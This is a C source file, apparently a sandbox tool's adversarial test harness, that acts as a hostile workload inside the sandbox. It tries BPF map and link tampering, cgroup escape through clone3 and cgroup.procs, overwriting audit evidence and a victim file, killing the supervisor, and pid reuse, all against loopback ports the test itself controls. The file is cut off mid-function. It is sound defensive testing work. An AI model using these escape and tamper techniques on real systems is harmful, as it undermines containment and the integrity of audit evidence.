// SPDX-License-Identifier: Apache-2.0
/*
 * attack: what a hostile workload tries, run AS the workload by the
 * adversarial tests (test/adversarial/ *.test.ts) under `gensee run`.
 *
 *   attack MODE [--port P] [--uport U] [--aport A] [--state DIR] [--op OP]
 *               [--victim FILE] [--victim-bin FILE] [--token T] [--repeat N]
 *
 *   --port   a TCP port on 127.0.0.1 the policy denies (the test listens)
 *   --uport  a UDP port on 127.0.0.1 the policy denies (the test listens)
 *   --aport  a TCP port on 127.0.0.1 the policy allows (toctou only)
 *   --state/--op  the operation's state dir and id, as the host names them
 *   --token  ignored: lets the test find every process of this run by argv
 *
 * Modes: plain bpffs cgroup evidence signal exit-window pid-reuse sockets
 * nested-userns raw udp alias toctou procfs fds setns bpf-syscall (see each
 * function's comment).
 *
 * Each mode prints one JSON line (one write(2), so it never interleaves with
 * gensee's own lines):
 *   {"attack":MODE,"attempts":{NAME:RESULT,...},"info":{...}}
 * An attempt is something that must not work: RESULT is "ok" when it
 * worked, else the errno name (or "refused:<code>", "none"). The program
 * exits 0 either way: the test decides. Modes that need something only
 * known at run time (the supervisor's pid, a go-ahead) first print
 * {"attack":MODE,"phase":"ready"} and read one line from stdin.
 *
 * Every attack that touches gensee's objects touches only those of --op:
 * other operations on the machine belong to other tests.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <liburing.h>
#include <limits.h>
#include <linux/bpf.h>
#include <linux/if_ether.h>
#include <linux/if_packet.h>
#include <linux/perf_event.h>
#include <linux/sched.h>
#include <net/if.h>
#include <netinet/in.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <netinet/udp.h>
#include <poll.h>
#include <pthread.h>
#include <sched.h>
#include <signal.h>
#include <stdarg.h>
#include <stdatomic.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/statfs.h>
#include <sys/syscall.h>
#include <sys/types.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#include "gensee_abi.h"

/* paths and report keys are bounded by PATH_MAX; a truncated key is harmless */
#pragma GCC diagnostic ignored "-Wformat-truncation"

#ifndef CGROUP2_SUPER_MAGIC
#define CGROUP2_SUPER_MAGIC 0x63677270
#endif
#ifndef BPF_FS_MAGIC
#define BPF_FS_MAGIC 0xcafe4a11
#endif
#ifndef CLONE_INTO_CGROUP
#define CLONE_INTO_CGROUP 0x200000000ULL
#endif

/* ---- the report: one JSON object, written with one write(2) ---- */

static char rep_att[65536], rep_inf[65536];
static size_t rep_att_n, rep_inf_n;

static void jesc(char *dst, size_t cap, size_t *n, const char *s)
{
	for (; *s && *n + 8 < cap; s++) {
		unsigned char c = (unsigned char)*s;
		if (c == '"' || c == '\\') {
			dst[(*n)++] = '\\';
			dst[(*n)++] = (char)c;
		} else if (c < 0x20) {
			*n += (size_t)snprintf(dst + *n, cap - *n, "\\u%04x", c);
		} else {
			dst[(*n)++] = (char)c;
		}
	}
	dst[*n] = 0;
}

static void kv(char *buf, size_t cap, size_t *n, const char *k, const char *v, int quote)
{
	if (*n + 8 >= cap)
		return;
	if (*n)
		buf[(*n)++] = ',';
	buf[(*n)++] = '"';
	jesc(buf, cap, n, k);
	buf[(*n)++] = '"';
	buf[(*n)++] = ':';
	if (quote)
		buf[(*n)++] = '"';
	jesc(buf, cap, n, v);
	if (quote)
		buf[(*n)++] = '"';
	buf[*n] = 0;
}

static const char *ename(int e)
{
	const char *s;

	if (e == 0)
		return "ok";
	s = strerrorname_np(e);
	return s ? s : "EUNKNOWN";
}

/* an attempt that must not work: r is 0 (it worked) or an errno */
static void attempt(const char *name, int r)
{
	kv(rep_att, sizeof(rep_att), &rep_att_n, name, ename(r), 1);
}

static void attempt_s(const char *name, const char *result)
{
	kv(rep_att, sizeof(rep_att), &rep_att_n, name, result, 1);
}

static void info(const char *name, const char *fmt, ...)
{
	char v[2048];
	va_list ap;

	va_start(ap, fmt);
	vsnprintf(v, sizeof(v), fmt, ap);
	va_end(ap);
	kv(rep_inf, sizeof(rep_inf), &rep_inf_n, name, v, 1);
}

static void info_num(const char *name, long long v)
{
	char s[32];

	snprintf(s, sizeof(s), "%lld", v);
	kv(rep_inf, sizeof(rep_inf), &rep_inf_n, name, s, 0);
}

static void emit_line(const char *line, size_t n)
{
	while (n) {
		ssize_t w = write(1, line, n);
		if (w < 0 && errno == EINTR)
			continue;
		if (w <= 0)
			return;
		line += w;
		n -= (size_t)w;
	}
}

static void report(const char *mode)
{
	static char line[140000];
	int n;

	info_num("uid", getuid());
	n = snprintf(line, sizeof(line), "{\"attack\":\"%s\",\"pid\":%d,\"attempts\":{%s},\"info\":{%s}}\n", mode,
		     getpid(), rep_att, rep_inf);
	emit_line(line, (size_t)n);
	rep_att_n = rep_inf_n = 0;
	rep_att[0] = rep_inf[0] = 0;
}

/* say we are ready and read one line of the test's answer (empty on EOF) */
static void ready(const char *mode, char *buf, size_t cap)
{
	char line[256];
	size_t n = 0;
	int k = snprintf(line, sizeof(line), "{\"attack\":\"%s\",\"phase\":\"ready\",\"pid\":%d}\n", mode, getpid());

	emit_line(line, (size_t)k);
	while (n + 1 < cap) {
		ssize_t r = read(0, buf + n, 1);
		if (r < 0 && errno == EINTR)
			continue;
		if (r <= 0 || buf[n] == '\n')
			break;
		n++;
	}
	buf[n] = 0;
}

/* ---- options ---- */

static struct {
	int port, uport, aport, repeat;
	const char *state, *op, *victim, *victim_bin;
} o = { .repeat = 200 };

static char opdir[PATH_MAX];

/* ---- network helpers: each returns 0 when bytes went out, else errno ---- */

static const char PAYLOAD[] = "ADVERSARIAL-BYTES";

static struct sockaddr_in lo4(int port)
{
	struct sockaddr_in a = { .sin_family = AF_INET, .sin_port = htons((uint16_t)port) };
	a.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
	return a;
}

/* connect() then write() so a successful connect carries bytes */
static int tcp_to(const struct sockaddr *sa, socklen_t len, int family)
{
	int fd = socket(family, SOCK_STREAM | SOCK_CLOEXEC, 0), r = 0;

	if (fd < 0)
		return errno;
	if (connect(fd, sa, len) < 0)
		r = errno;
	else if (write(fd, PAYLOAD, sizeof(PAYLOAD)) < 0)
		r = errno;
	close(fd);
	return r;
}

static int tcp_port(int port)
{
	struct sockaddr_in a = lo4(port);
	return tcp_to((struct sockaddr *)&a, sizeof(a), AF_INET);
}

/* submit the one prepared sqe and wait for it: 0, or the errno it ended with */
static int uring_complete(struct io_uring *ring)
{
	struct io_uring_cqe *cqe;
	int r;

	io_uring_submit(ring);
	r = io_uring_wait_cqe(ring, &cqe);
	if (r < 0)
		return -r;
	r = cqe->res < 0 ? -cqe->res : 0;
	io_uring_cqe_seen(ring, cqe);
	return r;
}

/* IORING_OP_CONNECT: seccomp never sees it, only the cgroup hook does */
static int uring_tcp_port(int port)
{
	struct sockaddr_in a = lo4(port);
	struct io_uring ring;
	struct io_uring_sqe *sqe;
	int fd, r;

	r = io_uring_queue_init(4, &ring, 0);
	if (r < 0)
		return -r;
	fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
	if (fd < 0) {
		r = errno;
		io_uring_queue_exit(&ring);
		return r;
	}
	sqe = io_uring_get_sqe(&ring);
	io_uring_prep_connect(sqe, fd, (struct sockaddr *)&a, sizeof(a));
	r = uring_complete(&ring);
	io_uring_queue_exit(&ring);
	if (r == 0 && write(fd, PAYLOAD, sizeof(PAYLOAD)) < 0)
		r = errno;
	close(fd);
	return r;
}

static int udp_sendto(const struct sockaddr *sa, socklen_t len, int family)
{
	int fd = socket(family, SOCK_DGRAM | SOCK_CLOEXEC, 0), r = 0;

	if (fd < 0)
		return errno;
	if (sendto(fd, PAYLOAD, sizeof(PAYLOAD), 0, sa, len) < 0)
		r = errno;
	close(fd);
	return r;
}

/* the standard pair every mode ends with: the denied port, both ways */
static void connect_denied(const char *tag)
{
	char k[128];

	snprintf(k, sizeof(k), "%sconnect", tag);
	attempt(k, tcp_port(o.port));
	snprintf(k, sizeof(k), "%suring_connect", tag);
	attempt(k, uring_tcp_port(o.port));
}

/* ---- process helpers ---- */

/* run fn in a child; the child's two result codes come back over a pipe */
struct kid_res {
	int a, b, c, d;
};

/*
 * Both sides of a fork or clone3 with the pipe p between them, given its
 * result pid: the child runs fn, writes its codes and exits; the parent reads
 * them into out (all -1 if the child wrote none) and reaps it. Returns 0, or
 * the errno of a failed fork (pid < 0).
 */
static int kid_split(long pid, int p[2], struct kid_res *out, void (*fn)(struct kid_res *, void *), void *arg)
{
	struct kid_res r = { -1, -1, -1, -1 };

	if (pid < 0) {
		int e = errno;

		close(p[0]);
		close(p[1]);
		return e;
	}
	if (pid == 0) {
		close(p[0]);
		fn(&r, arg);
		if (write(p[1], &r, sizeof(r)) < 0)
			_exit(1);
		_exit(0);
	}
	close(p[1]);
	if (read(p[0], &r, sizeof(r)) != (ssize_t)sizeof(r))
		r.a = r.b = r.c = r.d = -1;
	close(p[0]);
	waitpid((pid_t)pid, NULL, 0);
	*out = r;
	return 0;
}

static int run_kid(struct kid_res *out, void (*fn)(struct kid_res *, void *), void *arg)
{
	int p[2];

	if (pipe2(p, O_CLOEXEC) < 0)
		return errno;
	return kid_split(fork(), p, out, fn, arg);
}

static void attempt_kid(const char *name, int v)
{
	if (v < 0)
		attempt_s(name, "not_run");
	else
		attempt(name, v);
}

/* pids of our ancestors (host view today; a pid namespace ends at 1) */
static int ancestors(pid_t *out, int max)
{
	pid_t p = getppid();
	int n = 0;

	while (p > 1 && n < max) {
		char path[64], line[256];
		FILE *f;
		pid_t next = 0;

		out[n++] = p;
		snprintf(path, sizeof(path), "/proc/%d/status", p);
		f = fopen(path, "re");
		if (!f)
			break;
		while (fgets(line, sizeof(line), f))
			if (sscanf(line, "PPid: %d", &next) == 1)
				break;
		fclose(f);
		p = next;
	}
	return n;
}

/* mount points of fstype in /proc/self/mountinfo */
static int mounts_of(const char *fstype, char out[][PATH_MAX], int max)
{
	FILE *f = fopen("/proc/self/mountinfo", "re");
	char line[8192];
	int n = 0;

	if (!f)
		return 0;
	while (n < max && fgets(line, sizeof(line), f)) {
		char mp[PATH_MAX], *sep = strstr(line, " - ");
		char fs[64];

		if (!sep || sscanf(sep + 3, "%63s", fs) != 1 || strcmp(fs, fstype))
			continue;
		if (sscanf(line, "%*s %*s %*s %*s %4095s", mp) != 1)
			continue;
		snprintf(out[n++], PATH_MAX, "%s", mp);
	}
	fclose(f);
	return n;
}

/* ---- bpf(2), raw ---- */

static long sys_bpf(int cmd, union bpf_attr *a)
{
	return syscall(SYS_bpf, cmd, a, sizeof(*a));
}

static int obj_get(const char *path)
{
	union bpf_attr a;

	memset(&a, 0, sizeof(a));
	a.pathname = (uint64_t)(uintptr_t)path;
	return (int)sys_bpf(BPF_OBJ_GET, &a);
}

/* write a never-expiring lease for 127.0.0.1:port into the map */
static int write_lease(int map_fd, int port)
{
	struct gs_lease_key k, cur;
	struct gs_lease_value v, seen;
	union bpf_attr a;

	memset(&k, 0, sizeof(k));
	memset(&v, 0, sizeof(v));
	k.family = GS_FAMILY_IPV4;
	k.protocol = IPPROTO_TCP;
	k.port = (uint16_t)port;
	k.addr[0] = 127;
	k.addr[3] = 1;
	v.generation = 1;
	/* borrow the generation of a lease already there, if any */
	memset(&a, 0, sizeof(a));
	a.map_fd = (uint32_t)map_fd;
	a.key = 0;
	a.next_key = (uint64_t)(uintptr_t)&cur;
	if (sys_bpf(BPF_MAP_GET_NEXT_KEY, &a) == 0) {
		memset(&a, 0, sizeof(a));
		a.map_fd = (uint32_t)map_fd;
		a.key = (uint64_t)(uintptr_t)&cur;
		a.value = (uint64_t)(uintptr_t)&seen;
		if (sys_bpf(BPF_MAP_LOOKUP_ELEM, &a) == 0)
			v.generation = seen.generation;
	}
	memset(&a, 0, sizeof(a));
	a.map_fd = (uint32_t)map_fd;
	a.key = (uint64_t)(uintptr_t)&k;
	a.value = (uint64_t)(uintptr_t)&v;
	a.flags = BPF_ANY;
	return sys_bpf(BPF_MAP_UPDATE_ELEM, &a) ? errno : 0;
}

static int link_detach(int fd)
{
	union bpf_attr a;

	memset(&a, 0, sizeof(a));
	a.link_detach.link_fd = (uint32_t)fd;
	return sys_bpf(BPF_LINK_DETACH, &a) ? errno : 0;
}

static const char *const LINKS[] = { "link_connect4", "link_connect6", "link_sendmsg4", "link_sendmsg6",
				     "link_udp_egress" };

/* the pin dirs of our own op, through every path we can think of */
static int pin_dirs(char out[][PATH_MAX], int max)
{
	char mnts[16][PATH_MAX];
	pid_t anc[16];
	int n = 0, i, m = mounts_of("bpf", mnts, 16), na = ancestors(anc, 16);

	info_num("bpf_mounts", m);
	for (i = 0; i < m && n < max; i++)
		snprintf(out[n++], PATH_MAX, "%s/gensee/%s", mnts[i], o.op);
	if (n < max)
		snprintf(out[n++], PATH_MAX, "/sys/fs/bpf/gensee/%s", o.op);
	if (n < max)
		snprintf(out[n++], PATH_MAX, "/proc/1/root/sys/fs/bpf/gensee/%s", o.op);
	for (i = 0; i < na && n < max; i++)
		snprintf(out[n++], PATH_MAX, "/proc/%d/root/sys/fs/bpf/gensee/%s", anc[i], o.op);
	return n;
}

static void bpffs_attack(const char *tag)
{
	char dirs[24][PATH_MAX], p[PATH_MAX + 32], k[PATH_MAX + 64];
	int n = pin_dirs(dirs, 24), i, j, found = 0;

	for (i = 0; i < n; i++) {
		struct stat st;
		int fd;

		if (stat(dirs[i], &st) < 0)
			continue; /* nothing there from here: not an attempt */
		found++;
		snprintf(p, sizeof(p), "%s/%s", dirs[i], GS_MAP_LEASES);
		fd = obj_get(p);
		snprintf(k, sizeof(k), "%sobj_get:%s", tag, p);
		attempt(k, fd < 0 ? errno : 0);
		if (fd >= 0) {
			snprintf(k, sizeof(k), "%slease_write:%s", tag, p);
			attempt(k, write_lease(fd, o.port));
			close(fd);
		}
	}
	info_num("pin_dirs_visible", found);
	connect_denied("after_lease_");
	for (i = 0; i < n; i++) {
		struct stat st;

		if (stat(dirs[i], &st) < 0)
			continue;
		for (j = 0; j < 4; j++) {
			int fd;

			snprintf(p, sizeof(p), "%s/%s", dirs[i], LINKS[j]);
			fd = obj_get(p);
			snprintf(k, sizeof(k), "%sobj_get:%s", tag, p);
			attempt(k, fd < 0 ? errno : 0);
			if (fd >= 0) {
				snprintf(k, sizeof(k), "%slink_detach:%s", tag, p);
				attempt(k, link_detach(fd));
				close(fd);
			}
		}
	}
	connect_denied("after_detach_");
}

/* 1. BPF_OBJ_GET the pinned lease map and links; write a lease; detach */
static void mode_bpffs(void)
{
	bpffs_attack("");
	report("bpffs");
}

/* ---- cgroup escape ---- */

static int cgroup_roots(char out[][PATH_MAX], int max)
{
	char mnts[16][PATH_MAX], own[PATH_MAX] = "";
	pid_t anc[16];
	int n = 0, i, m = mounts_of("cgroup2", mnts, 16), na = ancestors(anc, 16);
	FILE *f;
	static const char *fixed[] = {
		"/sys/fs/cgroup",
		"/sys/fs/cgroup/unified",
		"/proc/1/root/sys/fs/cgroup",
		"/proc/1/root/sys/fs/cgroup/unified",
	};

	for (i = 0; i < m && n < max; i++)
		snprintf(out[n++], PATH_MAX, "%s", mnts[i]);
	for (i = 0; i < 4 && n < max; i++)
		snprintf(out[n++], PATH_MAX, "%s", fixed[i]);
	for (i = 0; i < na && n + 1 < max; i++) {
		snprintf(out[n++], PATH_MAX, "/proc/%d/root/sys/fs/cgroup", anc[i]);
		snprintf(out[n++], PATH_MAX, "/proc/%d/root/sys/fs/cgroup/unified", anc[i]);
	}
	/* the parent of our own cgroup, under each cgroup2 mount */
	f = fopen("/proc/self/cgroup", "re");
	if (f) {
		char line[PATH_MAX];
		while (fgets(line, sizeof(line), f))
			if (!strncmp(line, "0::", 3)) {
				line[strcspn(line, "\n")] = 0;
				snprintf(own, sizeof(own), "%s", line + 3);
			}
		fclose(f);
	}
	info("own_cgroup", "%s", own);
	if (own[0] && strcmp(own, "/")) {
		char *slash = strrchr(own, '/');
		if (slash)
			*slash = 0;
		for (i = 0; i < m && n < max; i++)
			snprintf(out[n++], PATH_MAX, "%s%s", mnts[i], own[0] ? own : "/");
	}
	return n;
}

/* roots[i] is a cgroup2 directory no earlier entry already named */
static int new_cgroup_dir(char roots[][PATH_MAX], int i)
{
	struct statfs sf;
	struct stat st, prev;
	int j;

	if (statfs(roots[i], &sf) < 0 || (unsigned long)sf.f_type != CGROUP2_SUPER_MAGIC || stat(roots[i], &st) < 0)
		return 0;
	for (j = 0; j < i; j++)
		if (stat(roots[j], &prev) == 0 && prev.st_dev == st.st_dev && prev.st_ino == st.st_ino)
			return 0;
	return 1;
}

static void kid_connect(struct kid_res *r, void *arg)
{
	(void)arg;
	r->a = tcp_port(o.port);
	r->b = uring_tcp_port(o.port);
}

static void kid_procs(struct kid_res *r, void *arg)
{
	const char *procs = arg;
	int fd = open(procs, O_WRONLY | O_CLOEXEC);

	if (fd < 0) {
		r->a = errno;
		return;
	}
	/* "0" is the writer itself, in whatever pid namespace it is */
	r->a = write(fd, "0", 1) == 1 ? 0 : errno;
	close(fd);
	if (r->a == 0) {
		r->b = tcp_port(o.port);
		r->c = uring_tcp_port(o.port);
	}
}

/* clone3(CLONE_INTO_CGROUP) into dirfd; the child runs fn. Returns errno. */
static int clone_into(int dirfd, struct kid_res *out, void (*fn)(struct kid_res *, void *), void *arg)
{
	int p[2];
	struct clone_args ca;

	if (pipe2(p, O_CLOEXEC) < 0)
		return errno;
	memset(&ca, 0, sizeof(ca));
	ca.flags = CLONE_INTO_CGROUP;
	ca.exit_signal = SIGCHLD;
	ca.cgroup = (uint64_t)dirfd;
	return kid_split(syscall(SYS_clone3, &ca, sizeof(ca)), p, out, fn, arg);
}

/* escape into each cgroup2 root we can name; fn runs there */
static void cgroup_attack(const char *tag, void (*fn)(struct kid_res *, void *), const char *what)
{
	char roots[48][PATH_MAX], k[PATH_MAX + 64], procs[PATH_MAX + 16];
	int n = cgroup_roots(roots, 48), i;

	for (i = 0; i < n; i++) {
		struct kid_res r;
		int fd, e;

		if (!new_cgroup_dir(roots, i))
			continue;
		fd = open(roots[i], O_RDONLY | O_DIRECTORY | O_CLOEXEC);
		if (fd < 0) {
			snprintf(k, sizeof(k), "%sopen:%s", tag, roots[i]);
			info(k, "%s", ename(errno));
			continue;
		}
		e = clone_into(fd, &r, fn ? fn : kid_connect, NULL);
		close(fd);
		snprintf(k, sizeof(k), "%sclone3_into:%s", tag, roots[i]);
		attempt(k, e);
		if (!e) {
			snprintf(k, sizeof(k), "%sescaped_%s:%s", tag, what ? what : "connect", roots[i]);
			attempt_kid(k, r.a);
			snprintf(k, sizeof(k), "%sescaped_%s:%s", tag, what ? "b" : "uring_connect", roots[i]);
			attempt_kid(k, r.b);
		}
		if (fn)
			continue;
		snprintf(procs, sizeof(procs), "%s/cgroup.procs", roots[i]);
		if (run_kid(&r, kid_procs, procs) == 0) {
			snprintf(k, sizeof(k), "%swrite_procs:%s", tag, procs);
			attempt_kid(k, r.a);
			if (r.a == 0) {
				snprintf(k, sizeof(k), "%smoved_connect:%s", tag, procs);
				attempt_kid(k, r.b);
				snprintf(k, sizeof(k), "%smoved_uring_connect:%s", tag, procs);
				attempt_kid(k, r.c);
			}
		}
	}
}

/* 2. clone3(CLONE_INTO_CGROUP) and cgroup.procs into every cgroup2 root */
static void mode_cgroup(void)
{
	cgroup_attack("", NULL, NULL);
	connect_denied("");
	report("cgroup");
}

/* ---- evidence ---- */

static int open_rw_touch(const char *path, int flags)
{
	int fd = open(path, flags | O_CLOEXEC | O_NOFOLLOW);
	char c;

	if (fd < 0)
		return errno;
	/* rewrite the first byte with itself: a real write, no visible change */
	if (pread(fd, &c, 1, 0) == 1 && pwrite(fd, &c, 1, 0) != 1) {
		int e = errno;
		close(fd);
		return e;
	}
	close(fd);
	return 0;
}

static void evidence_attack(const char *tag)
{
	char p[PATH_MAX + 64], k[PATH_MAX + 96];
	int fd;

	snprintf(p, sizeof(p), "%s/key", opdir);
	fd = open(p, O_RDONLY | O_CLOEXEC);
	snprintf(k, sizeof(k), "%sread_key", tag);
	if (fd >= 0) {
		char key[64];
		ssize_t r = read(fd, key, sizeof(key));
		attempt(k, r >= 0 ? 0 : errno);
		close(fd);
	} else {
		attempt(k, errno);
	}
	snprintf(p, sizeof(p), "%s/faults.jsonl", opdir);
	fd = open(p, O_WRONLY | O_APPEND | O_CLOEXEC);
	snprintf(k, sizeof(k), "%sappend_faults", tag);
	attempt(k, fd < 0 ? errno : 0); /* opening for append is already the breach */
	if (fd >= 0)
		close(fd);
	snprintf(k, sizeof(k), "%srewrite_faults", tag);
	attempt(k, open_rw_touch(p, O_RDWR));
	snprintf(p, sizeof(p), "%s/operation.json", opdir);
	snprintf(k, sizeof(k), "%swrite_operation_json", tag);
	attempt(k, open_rw_touch(p, O_RDWR));
	snprintf(p, sizeof(p), "%s/adv-created-%d", opdir, getpid());
	fd = open(p, O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC, 0600);
	snprintf(k, sizeof(k), "%screate_in_state_dir", tag);
	attempt(k, fd < 0 ? errno : 0);
	if (fd >= 0) {
		close(fd);
		unlink(p);
	}
	if (o.victim) {
		char dir[PATH_MAX];
		char *slash;

		fd = open(o.victim, O_WRONLY | O_APPEND | O_CLOEXEC);
		snprintf(k, sizeof(k), "%swrite_victim", tag);
		if (fd >= 0) {
			attempt(k, write(fd, "pwned\n", 6) == 6 ? 0 : errno);
			close(fd);
		} else {
			attempt(k, errno);
		}
		snprintf(k, sizeof(k), "%schmod_victim", tag);
		attempt(k, chmod(o.victim, 0666) ? errno : 0);
		snprintf(dir, sizeof(dir), "%s", o.victim);
		slash = strrchr(dir, '/');
		if (slash)
			*slash = 0;
		snprintf(p, sizeof(p), "%s/adv-created", dir);
		fd = open(p, O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC, 0644);
		snprintf(k, sizeof(k), "%screate_in_victim_dir", tag);
		attempt(k, fd < 0 ? errno : 0);
		if (fd >= 0)
			close(fd);
	}
	if (o.victim_bin) {
		/* gensee's own launcher script: open for writing only, never write */
		fd = open(o.victim_bin, O_WRONLY | O_APPEND | O_CLOEXEC);
		snprintf(k, sizeof(k), "%sopen_gensee_bin_for_write", tag);
		attempt(k, fd < 0 ? errno : 0);
		if (fd >= 0)
			close(fd);
	}
}

/* 3. the key, the logs, the record, a root-owned host file */
static void mode_evidence(void)
{
	evidence_attack("");
	connect_denied("");
	report("evidence");
}

/* ---- signals ---- */

static pid_t read_pid_line(const char *mode)
{
	char buf[128];
	int pid = 0;

	ready(mode, buf, sizeof(buf));
	if (sscanf(buf, "pid %d", &pid) != 1)
		pid = 0;
	info_num("target_pid", pid);
	return pid;
}

static int pidfd_signal(pid_t pid, int sig)
{
	int pfd = (int)syscall(SYS_pidfd_open, pid, 0), e = 0;

	if (pfd < 0)
		return errno;
	if (syscall(SYS_pidfd_send_signal, pfd, sig, NULL, 0) < 0)
		e = errno;
	close(pfd);
	return e;
}

/* 4. stop and kill the supervisor; kill(-1) inside a pid namespace */
static void mode_signal(void)
{
	pid_t sup = read_pid_line("signal");
	char go[16];

	if (sup > 0) {
		attempt("sigstop_supervisor", kill(sup, SIGSTOP) ? errno : 0);
		attempt("pidfd_sigstop_supervisor", pidfd_signal(sup, SIGSTOP));
		attempt("sigkill_supervisor", kill(sup, SIGKILL) ? errno : 0);
	} else {
		attempt_s("sigstop_supervisor", "no_pid_given");
	}
	connect_denied("");
	/* kill(-1) only where it cannot reach the host: a new pid namespace */
	info_num("in_small_pidns", getpid() <= 10);
	report("signal");
	ready("signal-go", go, sizeof(go));
	if (getpid() <= 10) {
		pid_t k = fork();
		if (k == 0) {
			char line[128];
			int e = kill(-1, SIGKILL) ? errno : 0;
			int n = snprintf(line, sizeof(line), "{\"attack\":\"signal-kill-all\",\"result\":\"%s\"}\n",
					 ename(e));
			emit_line(line, (size_t)n);
			_exit(0);
		}
		if (k > 0)
			waitpid(k, NULL, 0);
	}
}

/* ---- the exit window ---- */

static int ctl_lease_add(int port, char *reply, size_t cap);

/* 5. a daemon outlives the main process and keeps trying for 3 s */
static void mode_exit_window(void)
{
	pid_t c = fork();

	if (c == 0) {
		setsid();
		if (fork() != 0)
			_exit(0);
		/* the daemon: stdout may be gone; it never reports */
		struct timespec t0, now;
		clock_gettime(CLOCK_MONOTONIC, &t0);
		signal(SIGPIPE, SIG_IGN);
		for (;;) {
			struct sockaddr_in u = lo4(o.uport);
			char rep[512];
			tcp_port(o.port);
			uring_tcp_port(o.port);
			udp_sendto((struct sockaddr *)&u, sizeof(u), AF_INET);
			if (o.state)
				ctl_lease_add(o.port, rep, sizeof(rep));
			clock_gettime(CLOCK_MONOTONIC, &now);
			if (now.tv_sec - t0.tv_sec >= 3)
				break;
		}
		_exit(0);
	}
	if (c > 0)
		waitpid(c, NULL, 0);
	info_num("daemon_forked", c > 0);
	report("exit-window");
}

/* ---- pid reuse ---- */

/* 6. a subject dies; a later process is made (at its pid if we can) */
static void mode_pid_reuse(void)
{
	pid_t a, b, k;
	int p[2], spins = 0, reused = 0, ra = -1;
	char go[16];

	if (pipe2(p, O_CLOEXEC) < 0)
		return;
	a = fork();
	if (a == 0) {
		int r = tcp_port(o.port); /* recorded: a fault with A's subject */
		if (write(p[1], &r, sizeof(r)) < 0)
			_exit(1);
		_exit(0);
	}
	close(p[1]);
	if (read(p[0], &ra, sizeof(ra)) != (ssize_t)sizeof(ra))
		ra = -1;
	close(p[0]);
	waitpid(a, NULL, 0);
	attempt_kid("a_connect", ra);
	/* only a small pid space makes this reachable (a new pid namespace) */
	while (spins < 5000) {
		k = fork();
		if (k == 0)
			_exit(0);
		if (k < 0)
			break;
		waitpid(k, NULL, 0);
		spins++;
		if (k == a) {
			reused = 1;
			break;
		}
	}
	b = fork();
	if (b == 0) {
		tcp_port(o.port); /* recorded: a fault with B's subject */
		pause();
		_exit(0);
	}
	info_num("a_pid", a);
	info_num("b_pid", b);
	info("pid_reused", "%s", reused ? "reached" : "not_reached");
	info_num("spins", spins);
	usleep(200 * 1000);
	report("pid-reuse");
	ready("pid-reuse-hold", go, sizeof(go));
	if (b > 0) {
		kill(b, SIGKILL);
		waitpid(b, NULL, 0);
	}
	connect_denied("");
	report("pid-reuse-end");
}

/* ---- gensee's sockets ---- */

static int unix_connect(const char *path)
{
	struct sockaddr_un a = { .sun_family = AF_UNIX };
	int fd;

	if (strlen(path) >= sizeof(a.sun_path)) {
		errno = ENAMETOOLONG;
		return -1;
	}
	strcpy(a.sun_path, path);
	fd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
	if (fd < 0)
		return -1;
	if (connect(fd, (struct sockaddr *)&a, sizeof(a)) < 0) {
		int e = errno;
		close(fd);
		errno = e;
		return -1;
	}
	return fd;
}

/* send one frame, read the reply (up to cap-1 bytes, 3 s) */
static int frame_exchange(const char *path, const void *body, uint32_t len, unsigned char *reply, size_t cap,
			  size_t *got)
{
	unsigned char hdr[4] = { (unsigned char)(len >> 24), (unsigned char)(len >> 16), (unsigned char)(len >> 8),
				 (unsigned char)len };
	int fd = unix_connect(path);
	struct pollfd pfd;

	*got = 0;
	if (fd < 0)
		return errno;
	if (write(fd, hdr, 4) != 4 || write(fd, body, len) != (ssize_t)len) {
		/* a refused peer may be closed on before the frame is sent */
	}
	pfd.fd = fd;
	pfd.events = POLLIN;
	while (*got < cap && poll(&pfd, 1, 3000) > 0) {
		ssize_t r = read(fd, reply + *got, cap - *got);
		if (r <= 0)
			break;
		*got += (size_t)r;
	}
	close(fd);
	return 0;
}

/* ask control.sock for an operator lease; reply JSON in reply (or "") */
static int ctl_lease_add(int port, char *reply, size_t cap)
{
	char path[PATH_MAX + 32], body[256];
	size_t got = 0;
	int n, e;

	snprintf(path, sizeof(path), "%s/control.sock", opdir);
	n = snprintf(
		body, sizeof(body),
		"{\"schema\":1,\"command\":\"lease_add\",\"protocol\":\"tcp\",\"address\":\"127.0.0.1\",\"port\":%d,"
		"\"ttl_ms\":60000,\"max_uses\":0}",
		port);
	e = frame_exchange(path, body, (uint32_t)n, (unsigned char *)reply, cap - 1, &got);
	reply[got > 4 ? got : 0] = 0;
	if (got > 4)
		memmove(reply, reply + 4, got - 4 + 1);
	return e;
}

static void tohex(const unsigned char *b, size_t n, char *out)
{
	size_t i;

	for (i = 0; i < n; i++)
		sprintf(out + 2 * i, "%02x", b[i]);
	out[2 * n] = 0;
}

struct sock_try {
	char ctl[1024];
	unsigned char sup[512];
	size_t sup_n;
	int ctl_e, sup_e;
};

static void sockets_try(struct sock_try *s)
{
	char path[PATH_MAX + 32];
	/* CapabilityFault-ish bytes: the server must refuse the peer before it parses */
	static const unsigned char body[] = { 0x08, 0x02 };

	memset(s, 0, sizeof(*s));
	snprintf(path, sizeof(path), "%s/supervisor.sock", opdir);
	s->sup_e = frame_exchange(path, body, sizeof(body), s->sup, sizeof(s->sup), &s->sup_n);
	s->ctl_e = ctl_lease_add(o.port, s->ctl, sizeof(s->ctl));
}

static void sockets_record(const char *tag, const struct sock_try *s)
{
	char k[128], hex[1100];

	/* control.sock answers JSON: "ok":true means it granted the lease */
	snprintf(k, sizeof(k), "%scontrol_lease_add", tag);
	if (s->ctl_e)
		attempt(k, s->ctl_e);
	else if (strstr(s->ctl, "\"ok\":true"))
		attempt_s(k, "ok");
	else
		attempt_s(k, s->ctl[0] ? "refused" : "closed");
	snprintf(k, sizeof(k), "%scontrol_reply", tag);
	info(k, "%s", s->ctl);
	/* supervisor.sock answers a protobuf Resolution: the test decodes it */
